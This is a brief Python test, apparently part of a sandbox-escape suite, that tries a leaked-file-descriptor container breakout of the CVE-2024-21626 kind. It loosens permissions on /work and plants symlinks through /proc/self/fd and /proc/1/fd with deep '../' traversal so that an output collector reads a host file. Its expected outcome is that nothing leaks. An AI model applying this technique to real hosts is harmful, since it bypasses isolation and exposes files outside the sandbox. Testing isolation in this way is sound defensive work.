"""Tries: has a file of the machine kept as its output, by links through the descriptors of whoever collects
Must: nothing
See: proc_pid_fd(5); CVE-2024-21626 (runc, leaked descriptors)
"""

import sys
from pathlib import Path

from escape.attempt import stopped

Path("/work").chmod(0o755)  # whoever collects without the job's rights shall come in as well
kept = Path("/work/kept")
kept.mkdir()
for process in ("self", "1"):
    for number in range(3, 64):
        (kept / f"{process}-{number}").symlink_to(f"/proc/{process}/fd/{number}{'/..' * 12}{sys.argv[1]}")
stopped("nothing", "unless it is kept")
